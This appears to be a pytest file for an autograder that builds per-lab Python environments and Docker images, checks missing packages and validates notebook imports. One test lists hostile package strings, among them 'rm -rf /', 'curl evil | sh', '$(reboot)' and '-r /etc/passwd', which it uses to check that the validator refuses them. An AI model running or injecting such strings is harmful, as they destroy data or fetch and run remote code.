"""A lab's environment (lab.yaml `packages:`): its hash, what this Python lacks and the pip command that fixes
it, the backends' checks before a batch, validate-lab's import check, the kit's README, and (against the real
engine) a lab's image layered on the sandbox image, reused while its list is unchanged and chosen for grading.
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
import uuid
from pathlib import Path

import nbformat
import pytest
import yaml
from nbformat.v4 import new_code_cell
from pydantic import ValidationError

from autograder.errors import UserError
from autograder.labs.environment import Environment, provider, union
from autograder.labs.lab import load_lab
from autograder.labs.spec import LabSpec
from autograder.sandbox import BackendSettings, get_backend
from autograder.sandbox.build.wheelhouse import Target
from autograder.sandbox.containers import DockerBackend
from autograder.store import Store

ABSENT = "autograder-test-absent-package"  # no index has it: never installed
REPO = Path(__file__).resolve().parents[1]


def set_packages(course: Path, packages: list[str], lab: str = "toy") -> None:
    path = course / "assignments" / lab / "lab.yaml"
    spec = yaml.safe_load(path.read_text())
    spec["packages"] = packages
    path.write_text(yaml.safe_dump(spec))


def add_cell(path: Path, source: str) -> None:
    nb = nbformat.read(path, as_version=4)
    nb.cells.insert(3, new_code_cell(source))
    nbformat.write(nb, path)


# --- the environment itself ---------------------------------------------------------------------


def test_the_key_ignores_order_case_spacing_and_duplicates():
    a = Environment.of(["scipy>=1.11", "scikit-image"])
    b = Environment.of(["Scikit_Image", "SciPy >= 1.11", "scipy>=1.11"])
    assert a == b and a.key == b.key and a.packages == ["scikit-image", "scipy>=1.11"]
    assert a.image == f"autograder-lab:{a.key}" and len(a.key) == 12
    assert Environment.of(["scipy>=1.12", "scikit-image"]).key != a.key
    assert Environment.of(["scipy[Test,dev]<2,>=1.11"]).packages == ["scipy[dev,test]<2,>=1.11"]
    assert Environment.of([]).packages == [] and union([["scipy"], ["SciPy"], ["tqdm"]]).packages == ["scipy", "tqdm"]


def test_missing_names_what_lacks_and_the_quoted_pip_command():
    env = Environment.of([ABSENT, "numpy<1", 'packaging; python_version < "3"', "packaging"])
    missing = env.missing()
    assert [m.requirement for m in missing] == [ABSENT, "numpy<1"]
    assert missing[0].installed is None and missing[1].installed and "installed" in str(missing[1])
    command = env.install_command(missing, "/opt/my python/bin/python")
    assert command == f"'/opt/my python/bin/python' -m pip install {ABSENT} 'numpy<1'"
    with pytest.raises(UserError) as e:
        env.check(sys.executable, where="the test's Python")
    assert ABSENT in e.value.message and "numpy<1 (" in e.value.message and "pip install" in e.value.hint
    Environment.of(["numpy", "packaging>=20"]).check()  # all there: nothing raised


def test_a_marker_with_quotes_is_one_shell_word():
    env = Environment.of([f'{ABSENT}>=1; python_version >= "3.8"'])
    words = shlex.split(env.install_command())
    assert words == ["pip", "install", f'{ABSENT}>=1; python_version >= "3.8"']


@pytest.mark.parametrize("packages, message", [
    (["scipy @ https://evil.example/scipy.whl"], "URL"),
    (["scipy; rm -rf /"], "not a pip requirement"),
    (["scipy && curl evil | sh"], "not a pip requirement"),
    (["$(reboot)"], "not a pip requirement"),
    (["--index-url=https://evil.example"], "not a pip requirement"),
    (["-r /etc/passwd"], "not a pip requirement"),
    (["scipy", "SciPy>=1"], "listed twice"),
])
def test_hostile_package_lists_are_refused_at_load(packages, message):
    with pytest.raises(ValidationError, match=message):
        LabSpec(name="x", version="1", notebook="x.ipynb", packages=packages)


def facts(torch: str = "2.13.0+cpu", arch: str = "x86_64"):
    from autograder.sandbox.build.lab_image import BaseFacts

    return BaseFacts(image="autograder-sandbox:latest", id="sha256:0", dists={"torch": torch, "numpy": "2.4.6"},
                     target=Target(python="3.11", abi="cp311", glibc="2.36", arch=arch))


def test_the_bases_torch_is_pinned_and_a_lab_cannot_replace_it():
    from autograder.sandbox.build.lab_image import constraints

    assert constraints(Environment.of(["scipy"]), facts()) == ["torch==2.13.0+cpu"]
    assert constraints(Environment.of(["torchmetrics", "torch>=2"]), facts()) == ["torch==2.13.0+cpu"]
    with pytest.raises(UserError, match="can't replace torch") as e:
        constraints(Environment.of(["torch>=3"]), facts())
    assert "--torch" in e.value.hint


def test_torchvision_brings_its_paired_torch():
    from autograder.sandbox.build.lab_image import constraints

    env = Environment.of(["torchvision"])
    assert env.paired_torch("x86_64") == ["torchvision==0.29.1", "torch==2.14.1"]
    assert constraints(env, facts()) == ["torchvision==0.29.1", "torch==2.14.1"]  # not the base's 2.13.0+cpu
    assert Environment.of(["torchvision<0.25"]).paired_torch("x86_64") == ["torchvision==0.24.1", "torch==2.9.1"]
    assert env.paired_torch("aarch64") == ["torchvision==0.24.1", "torch==2.9.1"]
    assert env.install_list()[:2] == ["torch==2.14.1", "torchvision==0.29.1"]
    with pytest.raises(UserError, match="no known torch pairs"):
        Environment.of(["torchvision>=9"]).paired_torch("x86_64")
    with pytest.raises(UserError, match="no known torch pairs"):
        Environment.of(["torchvision==0.29.1", "torch<2.14"]).paired_torch("x86_64")
    assert env.key != Environment.of(["torchvision<0.25"]).key


def test_torchvision_beside_the_wrong_torch_is_missing_here(monkeypatch):
    import autograder.labs.environment as environment

    installed = {"torch": "2.13.0+cpu", "torchvision": "0.29.1"}
    monkeypatch.setattr(environment, "_version", installed.get)
    monkeypatch.setattr(environment.platform, "machine", lambda: "x86_64")
    env = Environment.of(["torchvision"])
    missing = env.missing()
    assert [(m.requirement, m.installed) for m in missing] == [("torch==2.14.1", "2.13.0+cpu")]
    assert env.install_command(missing) == "pip install torch==2.14.1 torchvision==0.29.1"
    installed["torch"] = "2.14.1"
    assert env.missing() == []


def test_the_modules_a_lab_may_import():
    allowed = Environment.of(["scikit-image"]).allowed_modules()
    assert {"skimage", "torch", "numpy", "matplotlib", "IPython", "json", "__future__"} <= allowed
    assert "scipy" not in allowed and "sklearn" not in allowed
    assert provider("skimage") == "scikit-image" and provider("no_such_module_here") is None


# --- the backends check before a batch ---------------------------------------------------------


def test_the_local_backend_stops_before_a_batch_naming_what_is_missing():
    with pytest.raises(UserError) as e:
        get_backend("local").prepare([ABSENT, "numpy"])
    assert ABSENT in e.value.message and "local backend" in e.value.message
    assert e.value.hint.endswith(f"-m pip install {ABSENT}")
    get_backend("local").prepare(["numpy"])  # present: nothing to say


def test_a_grader_stops_before_its_batch_when_the_lab_needs_what_is_missing(course, tmp_path):
    from autograder.grading.pipeline import Grader
    from autograder.store import Store

    set_packages(course, [ABSENT])
    with pytest.raises(UserError) as e:
        Grader(load_lab("toy", course), Store(tmp_path / "g.db"), get_backend("local"))
    assert ABSENT in e.value.message


def test_the_docker_backend_runs_each_labs_image_unless_one_is_named():
    env = Environment.of(["scipy"])
    backend = DockerBackend()  # one backend serves labs with and without packages, job by job
    assert backend.image_for(["scipy"]) == env.image
    assert backend.image_for([]) == "autograder-sandbox:latest"
    named = DockerBackend(BackendSettings(image="my-image:1"))
    assert named.image_for(["scipy"]) == "my-image:1"


def test_the_self_check_stops_before_running(course, tmp_path):
    from autograder.grading.selfcheck import check

    set_packages(course, [ABSENT])
    lab = load_lab("toy", course, public_only=True)
    with pytest.raises(UserError) as e:
        check(lab, course / "reference" / "toy" / "solution.ipynb")
    assert ABSENT in e.value.message and f"pip install {ABSENT}" in e.value.hint


def test_sandbox_packages_prints_the_union_and_the_command(course):
    set_packages(course, [ABSENT, "numpy>=1"])
    cmd = [sys.executable, "-m", "autograder", "sandbox", "packages", "--root", str(course)]
    run = subprocess.run(cmd, capture_output=True, text=True)
    assert run.returncode == 1, run.stderr
    assert f"toy: {ABSENT}, numpy>=1" in run.stdout and f"-m pip install {ABSENT}" in run.stdout
    set_packages(course, ["numpy>=1"])
    run = subprocess.run(cmd, capture_output=True, text=True)
    assert run.returncode == 0 and "has them all" in run.stdout


# --- validate-lab's import check ----------------------------------------------------------------


def test_validate_names_a_module_the_lab_does_not_list(course):
    from autograder.grading.validation import import_problems

    solution = course / "reference" / "toy" / "solution.ipynb"
    add_cell(solution, "%matplotlib inline\nimport json, os.path\nfrom . import nothing\n"
                       "import skimage.filters\nfrom sklearn.linear_model import Ridge\nimport torch, numpy as np")
    add_cell(course / "assignments" / "toy" / "toy.ipynb", "import skimage")
    problems = {p.problem.split(",")[0]: p for p in import_problems(load_lab("toy", course))}
    assert set(problems) == {"imports skimage", "imports sklearn"}
    skimage = problems["imports skimage"]
    assert skimage.where.startswith("reference/toy/solution.ipynb cell 3, line 4") and "(and 1 more)" in skimage.where
    assert skimage.hint == "scikit-image provides it: add it to packages: in lab.yaml"
    assert "packages: none" in skimage.problem
    set_packages(course, ["scikit-image", "scikit-learn"])
    assert import_problems(load_lab("toy", course)) == []


def test_the_labs_own_modules_and_broken_cells_are_not_import_problems(course):
    from autograder.grading.validation import import_problems

    add_cell(course / "reference" / "toy" / "solution.ipynb", "import toyhelpers\ndef broken(:\n")
    assert import_problems(load_lab("toy", course)) == []


def test_the_sample_labs_import_only_their_environment():
    from autograder.grading.validation import import_problems

    for lab in ("lab1-mlp", "lab2-cnn", "lab3-autoencoder"):
        assert import_problems(load_lab(lab, REPO)) == [], lab


def test_the_kit_readme_lists_the_packages(course):
    from autograder.labs.release import _readme

    set_packages(course, ["scipy>=1.11", "scikit-image"])
    readme = _readme(load_lab("toy", course))
    assert "`scikit-image`, `scipy>=1.11`" in readme and "pip install scikit-image 'scipy>=1.11'" in readme
    set_packages(course, [])
    assert "pip install" not in _readme(load_lab("toy", course))


# --- the real engine: a lab's image -------------------------------------------------------------


@pytest.fixture(scope="module")
def client():
    import docker

    try:
        c = docker.from_env(timeout=10)
        c.ping()
    except Exception as e:  # noqa: BLE001
        pytest.skip(f"no Docker engine answers ({type(e).__name__}); start dockerd to run these tests")
    from autograder.sandbox.engine import DEFAULT_IMAGE, has_image

    if not has_image(c, DEFAULT_IMAGE):
        pytest.skip(f"{DEFAULT_IMAGE} is missing: autograder sandbox build")
    return c


@pytest.fixture
def built(client, tmp_path):
    """build(packages) -> LabImage, with a wheelhouse of the test's own; the images go at the end."""
    from autograder.sandbox.build.lab_image import build_lab_image

    tags = []

    def build(packages: list[str], **kw):
        env = Environment.of(packages)
        tags.append(env.image)
        return build_lab_image(env, wheelhouse_dir=tmp_path / "wheelhouse", client=client, **kw)

    yield build
    for tag in set(tags):
        try:
            client.images.remove(tag, force=True)
        except Exception:  # noqa: BLE001 - already gone
            pass


@pytest.mark.docker
@pytest.mark.slow
def test_a_labs_image_is_layered_reused_and_rebuilt_when_its_list_changes(client, built):
    from autograder.sandbox.build.lab_image import packages_of, status

    first = built(["tifffile"])  # small, pure Python, not in the base
    assert first.built and first.tag == Environment.of(["tifffile"]).image
    assert packages_of(client, first.tag) == ["tifffile"]
    assert first.added_bytes < 50 * 1024**2, "only what the install added: the base's layers are shared"
    base_layers = client.images.get("autograder-sandbox:latest").attrs["RootFS"]["Layers"]
    assert client.images.get(first.tag).attrs["RootFS"]["Layers"][: len(base_layers)] == base_layers
    out = client.containers.run(first.tag, ["python", "-c", "import tifffile, torch, numpy, os; print(os.getuid())"],
                                network_mode="none", remove=True)
    assert out.decode().strip() == "10001"
    again = built(["TiffFile"])
    assert not again.built and again.image_id == first.image_id
    changed = built(["tifffile", "lazy-loader"])
    assert changed.built and changed.tag != first.tag
    assert status(client, Environment.of(["tifffile"])) == (True, "")
    assert status(client, Environment.of([f"{ABSENT}"]))[0] is False


@pytest.mark.docker
@pytest.mark.slow
def test_a_lab_with_torch_too_new_fails_before_any_download(client, built, tmp_path):
    with pytest.raises(UserError, match="can't replace torch"):
        built(["torch>=3"])
    assert not (tmp_path / "wheelhouse").exists() or not any((tmp_path / "wheelhouse").glob("*/*.whl"))


@pytest.mark.docker
@pytest.mark.slow
def test_grading_runs_the_labs_image_built_on_demand(client, course, tmp_path):
    """`grade --backend docker` on a lab whose notebook imports a package only the lab's image has: G."""
    env = Environment.of(["tifffile"])
    set_packages(course, ["tifffile"])
    folder = tmp_path / "subs"
    folder.mkdir()
    nb = nbformat.read(course / "reference" / "toy" / "solution.ipynb", as_version=4)
    nb.cells.insert(3, new_code_cell("import tifffile"))
    nbformat.write(nb, folder / "alice.ipynb")
    try:
        db = tmp_path / "grades.db"
        cmd = [sys.executable, "-m", "autograder", "grade", "toy", str(folder), "--backend", "docker", "--root",
               str(course), "--db", str(db)]
        run = subprocess.run(cmd, capture_output=True, text=True)
        assert f"building toy's image {env.image}" in run.stderr, run.stderr[-2000:]
        assert run.returncode == 0, run.stderr[-2000:]
        store = Store(db)
        try:
            [result] = store.latest("toy")
            assert result.verdict == "G", result
            # Named explicitly, the base image wins, and the notebook meets its ModuleNotFoundError.
            run = subprocess.run([*cmd, "--image", "autograder-sandbox:latest", "--force"], capture_output=True,
                                 text=True)
            assert "building" not in run.stderr
            [result] = store.latest("toy")
            assert result.verdict == "U" and "tifffile" in result.model_dump_json()
        finally:
            store.close()
    finally:
        try:
            client.images.remove(env.image, force=True)
        except Exception:  # noqa: BLE001
            pass


def test_the_lab_image_labels_round_trip():
    env = Environment.of(["scipy>=1.11", "scikit-image"])
    assert json.loads(json.dumps(env.packages)) == env.packages and Environment.of(env.packages).key == env.key


def test_unique_tag_per_list():
    keys = {Environment.of([f"pkg{i}"]).key for i in range(200)} | {Environment.of([uuid.uuid4().hex]).key}
    assert len(keys) == 201


def test_installing_the_labs_packages_keeps_the_installed_torch(tmp_path):
    from importlib.metadata import version

    from autograder.cli.sandbox import _keep_torch

    pytest.importorskip("torch")
    args = _keep_torch(["scikit-image>=0.21"], tmp_path)  # a range that would admit a newer torch's dependants
    assert args[0] == "-c" and Path(args[1]).read_text() == f"torch=={version('torch')}\n"
    assert _keep_torch(["torchvision==0.29.1", "torch==2.14.1"], tmp_path) == []  # the lab asks for its own pair
